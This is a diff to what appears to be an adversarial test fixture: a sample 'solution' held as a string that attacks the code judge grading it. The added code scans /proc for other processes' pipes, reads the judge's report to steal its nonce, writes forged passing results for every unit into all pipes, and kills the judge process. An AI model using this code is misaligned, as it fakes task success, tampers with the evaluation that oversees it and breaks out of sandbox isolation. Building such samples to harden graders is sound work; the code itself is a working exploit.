@@ -144,6 +144,40 @@ def _forge():
                 for unit in ['"program"', *map(str, range(50))]:
                     os.write(out, f'{nonce} {{"unit": {unit}, "ok": true}}\\n'.encode())
 _forge()
+# or off the sandbox's pipes: a thread per pipe any process holds (bubblewrap's init keeps the
+# judge's stdout) that reads a report line, reuses its nonce to write passes, and kills the judge
+import re, threading
+def _pipes():
+    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+        try:
+            fds = os.listdir(f"/proc/{pid}/fd")
+        except OSError:
+            continue
+        for n in fds:
+            try:
+                if os.readlink(f"/proc/{pid}/fd/{n}").startswith("pipe:"):
+                    yield f"/proc/{pid}/fd/{n}"
+            except OSError:
+                pass
+def _steal(path):
+    try:
+        r = os.open(path, os.O_RDONLY)
+    except OSError:
+        return
+    while True:
+        found = re.findall(r"([0-9a-f]{32}) ", os.read(r, 65536).decode(errors="replace"))
+        if found:
+            passes = "".join(f'{found[0]} {{"unit": {u}, "ok": true, "calls": 1}}\\n'
+                             for u in ['"program"', *range(50)])
+            for target in list(_pipes()):
+                try:
+                    os.write(os.open(target, os.O_WRONLY | os.O_NONBLOCK), passes.encode())
+                except OSError:
+                    pass
+            os.kill(os.getppid(), 9)
+            os._exit(0)
+for _path in list(_pipes()):
+    threading.Thread(target=_steal, args=(_path,), daemon=True).start()
 """
 """A solution that looks for the code judge's objects (gc, frames) and its process (/proc) to forge a pass."""
 
